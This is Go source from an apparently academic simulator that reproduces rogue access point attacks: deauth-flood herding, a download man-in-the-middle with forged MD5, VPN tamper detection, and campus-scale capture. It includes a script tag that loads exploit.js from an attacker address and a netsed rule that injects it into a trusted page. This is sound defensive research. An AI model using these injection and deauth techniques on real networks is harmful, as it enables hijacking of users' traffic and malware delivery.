		if mustCell(t, tbl, i, 1) != "100%" {
			t.Fatalf("row %d not clean: %v", i, tbl.Rows[i])
		}
	}
	// Honest chain: nothing mangled, nothing detected.
	if mustCell(t, tbl, 0, 2) != "0.0" || mustCell(t, tbl, 0, 4) != "0.0" {
		t.Fatalf("honest row saw tampering: %v", tbl.Rows[0])
	}
	// Hostile chain: records were mangled, every layer that CAN see it did,
	// and the layer that cannot (per-hop link MACs) stayed silent.
	if mustCell(t, tbl, 1, 4) == "0.0" {
		t.Fatalf("hostile relay mangled nothing: %v", tbl.Rows[1])
	}
	if mustCell(t, tbl, 1, 2) == "0.0" {
		t.Fatalf("mangling went undetected end to end: %v", tbl.Rows[1])
	}
	if mustCell(t, tbl, 1, 3) != "0.0" {
		t.Fatalf("per-hop MACs flagged tampering that must be invisible to them: %v", tbl.Rows[1])
	}
	// Anonymity: the exit's view of the client is the pseudonym, not an IP.
	if got := mustCell(t, tbl, 1, 5); got != `"wanderer"` {
		t.Fatalf("exit sees client as %s", got)
	}
}

func TestE14Shape(t *testing.T) {
	tbl := E14RelayChainChaos(tiny)
	if len(tbl.Rows) != 5 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	for i, r := range tbl.Rows {
		if r[1] != "100%" || r[2] != "100%" {
			t.Fatalf("row %d did not recover: %v", i, r)
		}
	}
	// The relay-drop row must actually exercise the failover machinery:
	// tunnel DPD fired and the rebuilt chain rekeyed.
	if mustCell(t, tbl, 1, 3) == "0.0" || mustCell(t, tbl, 1, 4) == "0.0" {
		t.Fatalf("relay-drop row saw no DPD/rekey: %v", tbl.Rows[1])
	}
	// The brief link-flap must stay inside the DPD budget — graceful
	// degradation, not a teardown.
	if mustCell(t, tbl, 4, 4) != "0.0" {
		t.Fatalf("link-flap tripped DPD: %v", tbl.Rows[4])
	}
}

// TestParallelSweepsMatchSequential pins the tentpole's determinism claim:
// every table fans its trials out through core.Sweep, and fanning across
// workers must not change a single byte of any rendered table. GOMAXPROCS=1
// forces the sweep's sequential fallback; GOMAXPROCS=4 forces the worker
// pool even on a single-core machine (workers pull points in whatever order
// the scheduler allows — only the result slots are ordered).
func TestParallelSweepsMatchSequential(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the full tiny-scale suite twice")
	}
	render := func() []string {
		tables := All(tiny)
		out := make([]string, len(tables))
		for i, tbl := range tables {
			out[i] = tbl.String()
		}
		return out
	}
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(0))
	runtime.GOMAXPROCS(1)
	seq := render()
	runtime.GOMAXPROCS(4)
	par := render()
	for i := range seq {
		if seq[i] != par[i] {
			t.Errorf("table %d differs between sequential and parallel sweeps.\n--- sequential ---\n%s--- parallel ---\n%s",
				i, seq[i], par[i])
		}
	}
}

// TestE15Shape: the campus fully associates at every scale, the rogue's
// catch stays a single-neighborhood slice of the campus, and the medium
// moves traffic at every size.
func TestE15Shape(t *testing.T) {
	tbl := E15CampusScale(Scale{Trials: 1, Quick: true})
	if len(tbl.Rows) != 2 {
		t.Fatalf("rows: %d", len(tbl.Rows))
	}
	for i, row := range tbl.Rows {
		if got := mustCell(t, tbl, i, 2); got != "100%" {
			t.Fatalf("row %d (%s stations): assoc = %q, want 100%%", i, row[0], got)
		}
		if got := mustCell(t, tbl, i, 3); got == "0.0" {
			t.Fatalf("row %d (%s stations): rogue captured nobody", i, row[0])
		}
		if got := mustCell(t, tbl, i, 5); got == "0" {
			t.Fatalf("row %d (%s stations): no medium throughput", i, row[0])
		}
	}
}

// TestE15ScaleLadder pins the ladder's structure — Quick stops at 1024
// stations, full scale climbs two more quadrupling rungs to 16384, the
// biggest rung runs on the conservative-window kernel — and smokes the
// 16384-station world itself: the table's top row must come from a world
// that actually constructs and moves at that size, so the smoke builds it
// and runs the join/scan opening (a short slice of e15SimTime; the full
// window is the experiment's job, not the test's).
func TestE15ScaleLadder(t *testing.T) {
	quick := e15Sizes(true)
	full := e15Sizes(false)
	if len(quick) != 2 || quick[len(quick)-1].stas != 1024 {
		t.Fatalf("quick ladder: %v", quick)
	}
	if len(full) != 4 || full[len(full)-1] != (e15Size{1024, 16384}) {
		t.Fatalf("full ladder: %v", full)
	}
	for i := 1; i < len(full); i++ {
		if full[i].stas != 4*full[i-1].stas {
			t.Fatalf("ladder rung %d does not quadruple: %v", i, full)
		}
	}
	if e15Workers(full[len(full)-1].stas) == 0 || e15Workers(1024) != 0 {
		t.Fatal("only the 16384-station rung should use the windowed kernel")
	}
	if testing.Short() {
		t.Skip("16384-station smoke")
	}
	top := full[len(full)-1]
	w := core.NewCampusWorld(core.CampusConfig{
		Seed:    1,
		Rogue:   true,
		Workers: e15Workers(top.stas),
		Topology: core.TopologyConfig{
			Kind: core.TopoCampus, Seed: 1,
			APs: top.aps, STAs: top.stas,
		},
	})
	if got := len(w.STAs); got != top.stas {
		t.Fatalf("topology clamped the top rung: %d stations, want %d", got, top.stas)
	}
	// 100 ms covers every AP's first beacon and the earliest joiners' probe
	// scans — enough to prove the world is live without paying for the full
	// association ladder (no station associates this early at any scale).
	w.Run(100 * sim.Millisecond)
	if w.Medium.Transmissions == 0 || w.Medium.Deliveries == 0 {
		t.Fatalf("16384-station world is inert after the opening: tx=%d deliveries=%d",
			w.Medium.Transmissions, w.Medium.Deliveries)
	}
}
