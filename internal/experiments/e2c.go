package experiments

import (
	"bytes"

	"repro/internal/core"
	"repro/internal/httpx"
	"repro/internal/phy"
	"repro/internal/sim"
)

// newsHTML is the "CNN" stand-in: a big, boring, trusted page.
var newsHTML = []byte("<html><head><title>World News</title></head><body>" +
	"<h1>Top stories</h1><p>" + string(bytes.Repeat([]byte("nothing suspicious here. "), 120)) +
	"</p></body></html>\n")

// evilScript is what the rogue splices into the page. It is exactly the
// length of the page text it replaces: a substitution that changes the body
// length would clash with the HTTP Content-Length header and truncate the
// page — the kind of detail §4.2 says "could easily be addressed by someone
// with malicious intent", so our attacker addresses it.
const evilScript = `<script src=http://10.0.0.201/exploit.js></script>`

// injectedOver is the page text the script replaces (same length).
const injectedOver = "nothing suspicious here. nothing suspicious here. "

// E2cContentInjection reproduces §5.1 ("CNN - Trustworthy Websites"): the
// victim only visits a large legitimate site, yet "anyone could insert
// malicious code into any web content requested". The rogue's netsed gets
// one extra rule that splices a script tag into every HTML body.
func E2cContentInjection(s Scale) Table {
	t := Table{
		ID:    "E2c",
		Title: "Script injection into a trusted page (§5.1, the CNN scenario)",
		Columns: []string{"victim policy", "page loads", "exploit script present",
			"page otherwise intact"},
		Notes: []string{
			"rogue rule replaces 50 bytes of page text with an equal-length script tag (Content-Length stays valid)",
			"the site's trustworthiness is irrelevant: the modification happens on the wireless segment",
		},
	}
	type policy struct {
		name string
		vpn  bool
	}
	policies := []policy{{"no VPN", false}, {"full VPN", true}}
	type out struct {
		loaded, injected, intact bool
	}
	type point struct {
		pol  policy
		seed uint64
	}
	var points []point
	for _, p := range policies {
		for _, seed := range core.Seeds(21, s.trials()) {
			points = append(points, point{p, seed})
		}
	}
	results := core.Sweep(points, func(pt point) out {
		p := pt.pol
		cfg := core.Config{
			Seed: pt.seed, Rogue: true, RogueCloneBSSID: true,
			VPNServer: p.vpn,
			ExtraNetsedRules: []string{
				"s/" + injectedOver + "/" + escapeSlashes(evilScript) + "/1",
			},
			APPos:     phy.Position{X: 0, Y: 0},
			VictimPos: phy.Position{X: 40, Y: 0},
			RoguePos:  phy.Position{X: 42, Y: 0},
		}
		w := core.NewWorld(cfg)
		w.WebServer.Handle("/news", func(req *httpx.Request) *httpx.Response {
			return httpx.NewResponse(200, "text/html", newsHTML)
		})
		w.VictimConnect()
		w.Run(10 * sim.Second)
		if p.vpn {
			up := false
			w.EnableVictimVPN(nil, func(err error) { up = err == nil })
			w.Run(20 * sim.Second)
			if !up {
				return out{}
			}
		}
		var body []byte
		var err error
		w.VictimGet("/news", func(b []byte, e error) { body, err = b, e })
		w.Run(30 * sim.Second)
		if err != nil {
			return out{}
		}
		injected := bytes.Contains(body, []byte(evilScript))
		restored := bytes.Replace(body, []byte(evilScript), []byte(injectedOver), 1)
		return out{
			loaded:   true,
			injected: injected,
			intact:   bytes.Equal(restored, newsHTML),
		}
	})
	for i, p := range policies {
		var loaded, injected, intact []bool
		for _, r := range results[i*s.trials() : (i+1)*s.trials()] {
			loaded = append(loaded, r.loaded)
			injected = append(injected, r.injected)
			intact = append(intact, r.intact)
		}
		t.AddRow(p.name, pct(core.Fraction(loaded)), pct(core.Fraction(injected)), pct(core.Fraction(intact)))
	}
	return t
}

// escapeSlashes encodes '/' as %2f for netsed rule syntax.
func escapeSlashes(s string) string {
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		if s[i] == '/' {
			out = append(out, '%', '2', 'f')
			continue
		}
		out = append(out, s[i])
	}
	return string(out)
}
