package experiments

import (
	"fmt"

	"repro/internal/core"
	"repro/internal/sim"
	"repro/internal/vpn"
)

// The chaos experiments (E10–E12) quantify the robustness layer: the same
// deterministic worlds as E1–E9, but with a fault schedule installed
// (core.Config.Faults). Every row is a pure function of its seeds, so these
// tables golden-pin the recovery behaviour, not just the attack behaviour.

// E10DeauthStorm (§4): a forged-deauth storm is the rogue's herding tool.
// Without a rogue the client rides the storm out on its reconnect backoff
// and returns to the real AP; with a stronger-signal rogue present, every
// disconnection is a fresh chance to land on the attacker.
func E10DeauthStorm(s Scale) Table {
	t := Table{
		ID:    "E10",
		Title: "Forged-deauth storm: recovery vs rogue takeover (§4)",
		Columns: []string{"configuration", "storm", "associated at end",
			"on rogue at end", "mean scan cycles"},
		Notes: []string{
			"storm: deauth@5s+10s(interval=100ms) — 100 forged deauths from the real BSSID on channel 1",
			"reconnect backoff (250 ms doubling to 8 s) bounds the scan rate, so the storm cannot livelock the client",
			"once herded onto the rogue's channel the client stops hearing the channel-1 storm — takeover is sticky",
		},
	}
	type scenario struct {
		name  string
		rogue bool
		storm bool
	}
	scenarios := []scenario{
		{"no rogue", false, false},
		{"no rogue", false, true},
		{"cloned-BSSID rogue at 2 m", true, false},
		{"cloned-BSSID rogue at 2 m", true, true},
	}
	type out struct {
		assoc, onRogue bool
		scans          uint64
	}
	type point struct {
		sc   scenario
		seed uint64
	}
	var points []point
	for _, sc := range scenarios {
		for _, seed := range core.Seeds(10, s.trials()) {
			points = append(points, point{sc, seed})
		}
	}
	results := core.Sweep(points, func(p point) out {
		cfg := core.Config{
			Seed:  p.seed,
			APPos: phyPos(0), VictimPos: phyPos(40), RoguePos: phyPos(42),
			Rogue: p.sc.rogue, RogueCloneBSSID: true, RoguePureRelay: true,
		}
		if p.sc.storm {
			cfg.Faults = "deauth@5s+10s(interval=100ms)"
		}
		w := core.NewWorld(cfg)
		w.VictimConnect()
		w.Run(60 * sim.Second) // storm ends at 15 s; 45 s of recovery room
		return out{assoc: w.VictimAssociated(), onRogue: w.VictimOnRogue(),
			scans: w.Victim.STA.ScanCycles}
	})
	for i, sc := range scenarios {
		var assoc, onRogue []bool
		var scans []float64
		for _, r := range results[i*s.trials() : (i+1)*s.trials()] {
			assoc = append(assoc, r.assoc)
			onRogue = append(onRogue, r.onRogue)
			scans = append(scans, float64(r.scans))
		}
		storm := "off"
		if sc.storm {
			storm = "on"
		}
		t.AddRow(sc.name, storm, pct(core.Fraction(assoc)),
			pct(core.Fraction(onRogue)), fmt.Sprintf("%.1f", core.Mean(scans)))
	}
	return t
}

// E11APOutage (§5): the defended client's tunnel across a real-AP reboot.
// A short outage sits inside the dead-peer-detection budget and the session
// simply resumes; a long one trips DPD, and the client re-handshakes —
// fresh keys, same tunnel address — once the AP returns.
func E11APOutage(s Scale) Table {
	t := Table{
		ID:    "E11",
		Title: "VPN session survival across an AP crash/restart",
		Columns: []string{"carrier", "AP outage", "tunnel up at end",
			"download clean", "mean rekeys", "mean peer timeouts"},
		Notes: []string{
			"keepalive 2 s, peer timeout 6 s (3×), reconnect backoff 1 s doubling to 30 s",
			"3 s outage is inside the DPD budget, though reassociation delay can still trip it on the TCP carrier",
			"20 s outage: DPD declares the peer dead; recovery is a rekeyed session reusing the same tunnel IP",
		},
	}
	type scenario struct {
		name    string
		carrier vpn.Carrier
		faults  string
	}
	scenarios := []scenario{
		{"TCP (PPP/SSH)", vpn.CarrierTCP, "apcrash@35s+3s"},
		{"TCP (PPP/SSH)", vpn.CarrierTCP, "apcrash@35s+20s"},
		{"UDP", vpn.CarrierUDP, "apcrash@35s+3s"},
		{"UDP", vpn.CarrierUDP, "apcrash@35s+20s"},
	}
	type out struct {
		up, clean      bool
		rekeys, pdeads float64
	}
	type point struct {
		sc   scenario
		seed uint64
	}
	var points []point
	for _, sc := range scenarios {
		for _, seed := range core.Seeds(11, s.trials()) {
			points = append(points, point{sc, seed})
		}
	}
	results := core.Sweep(points, func(p point) out {
		cfg := core.Config{
			Seed: p.seed, VictimPos: phyPos(20),
			VPNServer: true, VPNCarrier: p.sc.carrier,
			VPNKeepalive: 2 * sim.Second,
			Faults:       p.sc.faults,
		}
		w := core.NewWorld(cfg)
		w.VictimConnect()
		w.Run(10 * sim.Second)
		up := false
		w.EnableVictimVPN(nil, func(err error) { up = err == nil })
		w.Run(20 * sim.Second)
		if !up {
			return out{}
		}
		var res core.DownloadResult
		w.VictimDownload(func(r core.DownloadResult) { res = r })
		w.Run(90 * sim.Second) // outage ends by 55 s; ample recovery room
		return out{
			up: w.VictimVPN.Up(), clean: res.Clean(),
			rekeys: float64(w.VictimVPN.Rekeys), pdeads: float64(w.VictimVPN.PeerTimeouts),
		}
	})
	for i, sc := range scenarios {
		var ups, cleans []bool
		var rekeys, pdeads []float64
		for _, r := range results[i*s.trials() : (i+1)*s.trials()] {
			ups = append(ups, r.up)
			cleans = append(cleans, r.clean)
			rekeys = append(rekeys, r.rekeys)
			pdeads = append(pdeads, r.pdeads)
		}
		outage := "3 s"
		if sc.faults == "apcrash@35s+20s" {
			outage = "20 s"
		}
		t.AddRow(sc.name, outage, pct(core.Fraction(ups)), pct(core.Fraction(cleans)),
			fmt.Sprintf("%.1f", core.Mean(rekeys)), fmt.Sprintf("%.1f", core.Mean(pdeads)))
	}
	return t
}

// E12BurstLoss: the download against Gilbert–Elliott bad-air windows. TCP
// grinds through the loss; the point of the table is that it FINISHES, and
// what the bursts cost in completion time.
func E12BurstLoss(s Scale) Table {
	t := Table{
		ID:    "E12",
		Title: "Download completion under burst loss (Gilbert–Elliott air)",
		Columns: []string{"air quality", "download completed", "verified clean",
			"mean completion (s)"},
		Notes: []string{
			"200 kB download starting at t=10 s, inside a 60 s fault window opening at t=5 s",
			"burst chain steps once per completed transmission; loss applies channel-wide while in the bad state",
		},
	}
	type scenario struct {
		name   string
		faults string
	}
	scenarios := []scenario{
		{"clear", ""},
		{"bursty (90% bad-state loss)", "burst@5s+60s(pgb=0.02,pbg=0.25,loss=0.9)"},
		{"severe (95% bad-state loss, sticky)", "burst@5s+60s(pgb=0.08,pbg=0.15,loss=0.95)"},
	}
	file := make([]byte, 200_000)
	for i := range file {
		file[i] = byte(i * 7)
	}
	type out struct {
		done, clean bool
		secs        float64
	}
	type point struct {
		faults string
		seed   uint64
	}
	var points []point
	for _, sc := range scenarios {
		for _, seed := range core.Seeds(12, s.trials()) {
			points = append(points, point{sc.faults, seed})
		}
	}
	results := core.Sweep(points, func(p point) out {
		cfg := core.Config{Seed: p.seed, VictimPos: phyPos(20), Faults: p.faults,
			FileContents: file}
		w := core.NewWorld(cfg)
		w.VictimConnect()
		w.Run(10 * sim.Second)
		start := w.Kernel.Now()
		var res core.DownloadResult
		var doneAt sim.Time
		w.VictimDownload(func(r core.DownloadResult) { res = r; doneAt = w.Kernel.Now() })
		// Long run: under severe loss TCP's retransmission timer can back
		// off past the fault window itself, so completion may land minutes
		// after the air clears.
		w.Run(5 * sim.Minute)
		if res.Err != nil || doneAt == 0 {
			return out{}
		}
		return out{done: true, clean: res.Clean(), secs: (doneAt - start).Seconds()}
	})
	for i, sc := range scenarios {
		var dones, cleans []bool
		var secs []float64
		for _, r := range results[i*s.trials() : (i+1)*s.trials()] {
			dones = append(dones, r.done)
			cleans = append(cleans, r.clean)
			if r.done {
				secs = append(secs, r.secs)
			}
		}
		mean := "-"
		if len(secs) > 0 {
			mean = fmt.Sprintf("%.2f", core.Mean(secs))
		}
		t.AddRow(sc.name, pct(core.Fraction(dones)), pct(core.Fraction(cleans)), mean)
	}
	return t
}
