package experiments

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"testing"
)

var update = flag.Bool("update", false, "rewrite the golden experiment tables")

// TestGoldenTables locks down the rendered output of every experiment at a
// fixed small scale. The worlds are seeded deterministically, so any drift in
// a golden table means the simulation's behaviour changed — either a real
// regression or an intentional change that should be reviewed and then
// re-recorded with `go test ./internal/experiments -run TestGoldenTables -update`.
func TestGoldenTables(t *testing.T) {
	for _, tbl := range All(tiny) {
		tbl := tbl
		t.Run(tbl.ID, func(t *testing.T) {
			t.Parallel()
			got := tbl.String()
			path := filepath.Join("testdata", fmt.Sprintf("%s.golden", tbl.ID))
			if *update {
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("missing golden file (run with -update to record): %v", err)
			}
			if got != string(want) {
				t.Errorf("table %s drifted from golden.\n--- got ---\n%s--- want ---\n%s", tbl.ID, got, want)
			}
		})
	}
}
