package experiments

import (
	"fmt"
	"math"

	"repro/internal/attack"
	"repro/internal/core"
	"repro/internal/inet"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/wep"
)

// E1AssociationCapture (Figure 1): how reliably does the rogue win the
// victim's association as a function of its signal advantage, and does
// deauth forcing capture a client already attached to the real AP?
func E1AssociationCapture(s Scale) Table {
	t := Table{
		ID:    "E1",
		Title: "Rogue AP association capture vs signal advantage (Fig. 1)",
		Columns: []string{"rogue dist to victim (m)", "signal advantage (dB)",
			"passive capture", "deauth-forced capture"},
		Notes: []string{
			"victim 40 m from the real AP; rogue clones SSID+BSSID+WEP key on channel 6",
			"passive: victim scans fresh; forced: victim starts on the real AP, attacker deauth-floods",
		},
	}
	key := wep.Key40FromString("SECRET")
	// One flat sweep over every (distance, trial, forced?) world: rows are
	// assembled afterwards by slicing the in-order result vector, so the
	// table is byte-identical however many workers the sweep fans out to.
	dists := []float64{2, 5, 10, 20, 40, 80}
	type point struct {
		dist   float64
		seed   uint64
		forced bool
	}
	var points []point
	for _, d := range dists {
		for _, seed := range core.Seeds(uint64(d*1000), s.trials()) {
			points = append(points, point{d, seed, false}, point{d, seed, true})
		}
	}
	results := core.Sweep(points, func(p point) [2]bool {
		cfg := core.Config{
			Seed: p.seed, WEPKey: key,
			Rogue: true, RogueCloneBSSID: true, RoguePureRelay: true,
			APPos:     phy.Position{X: 0, Y: 0},
			VictimPos: phy.Position{X: 40, Y: 0},
			RoguePos:  phy.Position{X: 40 + p.dist, Y: 0},
		}
		w := core.NewWorld(cfg)
		if !p.forced {
			w.VictimConnect()
			w.Run(10 * sim.Second)
			return [2]bool{w.VictimOnRogue(), false}
		}
		// Forced: let the victim settle on whatever it picks first;
		// if that is the real AP, deauth-flood it off.
		w.VictimConnect()
		w.Run(10 * sim.Second)
		if w.VictimOnRogue() {
			return [2]bool{false, true} // captured without forcing
		}
		deauth := attack.NewDeauther(w.Kernel, w.Medium, cfg.RoguePos, cfg.APChannel)
		deauth.Flood(core.VictimMAC, core.CorpBSSID, 100*sim.Millisecond)
		w.Run(15 * sim.Second)
		deauth.Stop()
		return [2]bool{false, w.VictimOnRogue()}
	})
	i := 0
	for _, d := range dists {
		var passive, forced []bool
		for n := 0; n < s.trials(); n++ {
			passive = append(passive, results[i][0])
			forced = append(forced, results[i+1][1])
			i += 2
		}
		adv := signalAdvantageDB(40, d)
		t.AddRow(d, fmt.Sprintf("%+.1f", adv), pct(core.Fraction(passive)), pct(core.Fraction(forced)))
	}
	return t
}

// signalAdvantageDB is the rogue-vs-real RSSI difference at the victim with
// the default propagation model (exponent 3).
func signalAdvantageDB(realDist, rogueDist float64) float64 {
	pl := func(d float64) float64 {
		if d < 1 {
			d = 1
		}
		return 40 + 30*math.Log10(d)
	}
	return pl(realDist) - pl(rogueDist)
}

// E2DownloadMITM (Figure 2): the software-download attack end to end under
// the paper's configurations. The headline cell: with WEP and MAC filtering
// on, the victim still downloads a trojan whose forged MD5 verifies.
func E2DownloadMITM(s Scale) Table {
	t := Table{
		ID:    "E2",
		Title: "Software-download MITM success (Fig. 2)",
		Columns: []string{"network config", "victim compromised",
			"md5 check passed", "link redirected"},
		Notes: []string{
			"compromised = tampered body AND the page's md5 verification passes",
			"the naive attack reveals the redirect (paper §4.2) — LinkRedirected is 100% by design",
		},
	}
	type scenario struct {
		name      string
		key       wep.Key
		macFilter bool
	}
	scenarios := []scenario{
		{"open network", nil, false},
		{"WEP (key known to attacker)", wep.Key40FromString("SECRET"), false},
		{"WEP + MAC filter (cloned MAC)", wep.Key40FromString("SECRET"), true},
	}
	// All scenarios' trials fan out through one sweep; rows are cut from the
	// in-order results afterwards.
	type point struct {
		sc   scenario
		seed uint64
	}
	var points []point
	for _, sc := range scenarios {
		for _, seed := range core.Seeds(2, s.trials()) {
			points = append(points, point{sc, seed})
		}
	}
	results := core.Sweep(points, func(p point) core.DownloadResult {
		cfg := core.Config{
			Seed: p.seed, WEPKey: p.sc.key,
			MACFilter: p.sc.macFilter,
			Rogue:     true, RogueCloneBSSID: true,
			APPos:     phy.Position{X: 0, Y: 0},
			VictimPos: phy.Position{X: 40, Y: 0},
			RoguePos:  phy.Position{X: 42, Y: 0},
		}
		if p.sc.macFilter {
			cfg.RogueStationMAC = core.VictimMAC // harvested+cloned
		}
		w := core.NewWorld(cfg)
		w.VictimConnect()
		w.Run(10 * sim.Second)
		var res core.DownloadResult
		w.VictimDownload(func(r core.DownloadResult) { res = r })
		w.Run(60 * sim.Second)
		return res
	})
	for i, sc := range scenarios {
		var comp, md5ok, redir []bool
		for _, r := range results[i*s.trials() : (i+1)*s.trials()] {
			comp = append(comp, r.Compromised())
			md5ok = append(md5ok, r.Err == nil && r.MD5OK)
			redir = append(redir, r.Err == nil && r.LinkRedirected)
		}
		t.AddRow(sc.name, pct(core.Fraction(comp)), pct(core.Fraction(md5ok)), pct(core.Fraction(redir)))
	}
	return t
}

// E3VPNDefense (Figure 3): the same attack with the victim's traffic
// tunnelled. Full tunnel defeats the MITM; split tunnel does not.
func E3VPNDefense(s Scale) Table {
	t := Table{
		ID:    "E3",
		Title: "VPN-everything defense vs the MITM (Fig. 3)",
		Columns: []string{"victim policy", "victim compromised", "download clean",
			"tunnel tamper detections"},
		Notes: []string{
			"split tunnel covers only 172.16/12 — web traffic rides the hostile segment in the clear (§5.2 req. 4)",
		},
	}
	type policy struct {
		name   string
		vpn    bool
		split  []inet.Prefix
		tamper bool // the rogue actively flips bits in relayed tunnel records
	}
	policies := []policy{
		{name: "no VPN"},
		{name: "full VPN (all traffic)", vpn: true},
		{name: "full VPN + rogue flips tunnel bits", vpn: true, tamper: true},
		{name: "split tunnel (corp prefixes only)", vpn: true,
			split: []inet.Prefix{inet.MustParsePrefix("172.16.0.0/12")}},
	}
	type out struct {
		res    core.DownloadResult
		tamper uint64
	}
	type point struct {
		pol  policy
		seed uint64
	}
	var points []point
	for _, p := range policies {
		for _, seed := range core.Seeds(3, s.trials()) {
			points = append(points, point{p, seed})
		}
	}
	results := core.Sweep(points, func(pt point) out {
		p := pt.pol
		cfg := core.Config{
			Seed: pt.seed, WEPKey: wep.Key40FromString("SECRET"),
			Rogue: true, RogueCloneBSSID: true,
			VPNServer: true,
			APPos:     phy.Position{X: 0, Y: 0},
			VictimPos: phy.Position{X: 40, Y: 0},
			RoguePos:  phy.Position{X: 42, Y: 0},
		}
		w := core.NewWorld(cfg)
		w.VictimConnect()
		w.Run(10 * sim.Second)
		if p.vpn {
			up := false
			w.EnableVictimVPN(p.split, func(err error) { up = err == nil })
			w.Run(20 * sim.Second)
			if !up {
				return out{res: core.DownloadResult{Err: fmt.Errorf("vpn never up")}}
			}
		}
		if p.tamper {
			// The rogue can't read the tunnel, so it tries blind bit
			// flips on relayed carrier packets (fixing the transport
			// checksum so the flips reach the VPN layer).
			w.Rogue.IP.AddHook(&tamperHook{every: 3})
		}
		var res core.DownloadResult
		w.VictimDownload(func(r core.DownloadResult) { res = r })
		w.Run(60 * sim.Second)
		var tamper uint64
		if w.VictimVPN != nil {
			tamper = w.VictimVPN.TamperDetected()
		}
		if w.VPNServer != nil {
			tamper += w.VPNServer.TamperDetected()
		}
		return out{res: res, tamper: tamper}
	})
	for i, p := range policies {
		var comp, clean []bool
		var tampers uint64
		for _, r := range results[i*s.trials() : (i+1)*s.trials()] {
			comp = append(comp, r.res.Compromised())
			clean = append(clean, r.res.Clean())
			tampers += r.tamper
		}
		t.AddRow(p.name, pct(core.Fraction(comp)), pct(core.Fraction(clean)), tampers)
	}
	return t
}
