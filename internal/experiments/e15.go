package experiments

import (
	"fmt"

	"repro/internal/core"
	"repro/internal/sim"
)

// E15 scales the paper's rogue-AP threat from one victim to a campus: a
// generated AP grid with clustered stations, a high-power SSID clone parked
// beside one cluster, and the sharded medium underneath. The table reports,
// per world size, how much of the campus associates, what fraction the rogue
// captures (its reach is one interference neighborhood, however big the
// campus — the capture rate should FALL as the world grows), how much
// station traffic the rogue harvests, and the medium's delivered-frame
// throughput in simulated time. The 4096- and 16384-station rows only run
// at full scale; Quick stops at 1024.

// e15SimTime is the simulated window per world: staggered joins, the scan
// ladder, and several traffic intervals.
const e15SimTime = 10 * sim.Second

// e15Size is one rung of the scale ladder.
type e15Size struct{ aps, stas int }

// e15Sizes is the ladder: each full-scale rung quadruples the station count
// (and AP count with it, keeping cluster size fixed), so the table shows the
// per-neighborhood cost claim across two orders of magnitude.
func e15Sizes(quick bool) []e15Size {
	sizes := []e15Size{{16, 256}, {64, 1024}}
	if !quick {
		sizes = append(sizes, e15Size{256, 4096}, e15Size{1024, 16384})
	}
	return sizes
}

// e15Workers picks the kernel mode per rung: the 16384-station world runs on
// the conservative-window kernel (4 prepare lanes) because it dominates the
// sweep's tail when worlds outnumber cores only barely. Digests — and hence
// the table — are byte-identical either way (DESIGN.md §14); this is purely
// a wall-clock choice.
func e15Workers(stas int) int {
	if stas >= 16384 {
		return 4
	}
	return 0
}

// E15CampusScale: association, rogue capture, and medium throughput at
// campus scale.
func E15CampusScale(s Scale) Table {
	t := Table{
		ID:      "E15",
		Title:   "campus scale: association, rogue capture, medium throughput",
		Columns: []string{"stations", "aps", "assoc%", "captured", "harvested", "frames/s"},
		Notes: []string{
			fmt.Sprintf("campus topology, rogue beside cluster 0, %v simulated per world, mean over trials", e15SimTime.Duration()),
			"captured = stations on the rogue BSSID; its reach stays one neighborhood, so the rate falls as the campus grows",
			"frames/s = medium deliveries per simulated second (sharded: cost per frame tracks the neighborhood, not the campus)",
		},
	}
	sizes := e15Sizes(s.Quick)
	type point struct {
		e15Size
		seed uint64
	}
	var points []point
	for _, sz := range sizes {
		for trial := 0; trial < s.trials(); trial++ {
			points = append(points, point{sz, uint64(trial + 1)})
		}
	}
	results := core.Sweep(points, func(p point) core.CampusResult {
		w := core.NewCampusWorld(core.CampusConfig{
			Seed:    p.seed,
			Rogue:   true,
			Workers: e15Workers(p.stas),
			Topology: core.TopologyConfig{
				Kind: core.TopoCampus, Seed: p.seed,
				APs: p.aps, STAs: p.stas,
			},
		})
		w.Run(e15SimTime)
		return w.Result()
	})
	for i, sz := range sizes {
		var assoc, captured, harvested, delivered float64
		n := float64(s.trials())
		for trial := 0; trial < s.trials(); trial++ {
			r := results[i*s.trials()+trial]
			assoc += float64(r.Associated) / float64(r.STAs)
			captured += float64(r.OnRogue)
			harvested += float64(r.RogueFrames)
			delivered += float64(r.Deliveries)
		}
		t.AddRow(
			fmt.Sprint(sz.stas),
			fmt.Sprint(sz.aps),
			fmt.Sprintf("%.0f%%", 100*assoc/n),
			fmt.Sprintf("%.1f", captured/n),
			fmt.Sprintf("%.1f", harvested/n),
			fmt.Sprintf("%.0f", delivered/n/e15SimTime.Duration().Seconds()),
		)
	}
	return t
}
