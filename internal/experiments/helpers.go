package experiments

import (
	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/netsed"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/tcp"
	"repro/internal/vpn"
)

// tamperHook flips a byte in every Nth forwarded VPN-carrier packet and
// repairs the transport checksum, modelling an on-path attacker who mangles
// tunnel traffic it cannot read (E3's detection row).
type tamperHook struct {
	every int
	count int
}

func (h *tamperHook) Filter(point ipv4.HookPoint, pkt *ipv4.Packet, in, out string) ipv4.Verdict {
	if point != ipv4.HookForward || len(pkt.Payload) < 120 {
		return ipv4.VerdictAccept
	}
	// Only touch tunnel carrier traffic (port 4789 on either side).
	sp := int(pkt.Payload[0])<<8 | int(pkt.Payload[1])
	dp := int(pkt.Payload[2])<<8 | int(pkt.Payload[3])
	if sp != int(vpn.DefaultPort) && dp != int(vpn.DefaultPort) {
		return ipv4.VerdictAccept
	}
	h.count++
	if h.count%h.every != 0 {
		return ipv4.VerdictAccept
	}
	// Flip a byte near the packet tail: inside the record's HMAC trailer,
	// so the stream framing survives and the VPN layer sees (and counts)
	// the forgery instead of the carrier desynchronising.
	pkt.Payload[len(pkt.Payload)-10] ^= 0xff
	fixTransportChecksum(pkt)
	return ipv4.VerdictAccept
}

// fixTransportChecksum recomputes the TCP/UDP checksum after tampering.
func fixTransportChecksum(pkt *ipv4.Packet) {
	var off int
	switch pkt.Proto {
	case ipv4.ProtoTCP:
		off = 16
	case ipv4.ProtoUDP:
		off = 6
	default:
		return
	}
